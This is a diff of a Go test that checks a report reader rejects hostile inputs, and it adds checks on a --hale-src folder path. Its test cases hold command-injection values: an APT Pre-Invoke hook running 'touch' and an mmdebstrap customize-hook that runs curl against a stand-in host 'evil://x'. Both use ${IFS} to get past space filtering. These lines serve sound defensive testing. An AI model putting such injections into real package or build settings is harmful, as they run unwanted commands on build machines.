@@ -61,6 +61,13 @@ func TestReadReportRefusesHostileInputs(t *testing.T) {
 	if _, err := ReadReport(write("clang-19=1:19.1.7-3 libc6-dev=2.41-12", good)); err != nil {
 		t.Fatalf("a report as halebench writes it: %v", err)
 	}
+	// verify's --hale-src must be a folder, checked with the report.
+	if _, err := ReadForVerify(write("clang=1", good), t.TempDir()); err != nil {
+		t.Errorf("verify, a hale tree: %v", err)
+	}
+	if _, err := ReadForVerify(write("clang=1", good), "/no/such/hale"); err == nil || !strings.HasPrefix(err.Error(), "--hale-src=/no/such/hale: ") {
+		t.Errorf("verify, no hale tree: %v", err)
+	}
 	cases := map[string]string{
 		write("-o APT::Update::Pre-Invoke::=touch${IFS}/tmp/owned clang=1", good):                              "toolchain c PACKAGES",
 		write("clang=1", "mmdebstrap --variant=minbase trixie --customize-hook=curl${IFS}evil://x; halebench"): "base builder",
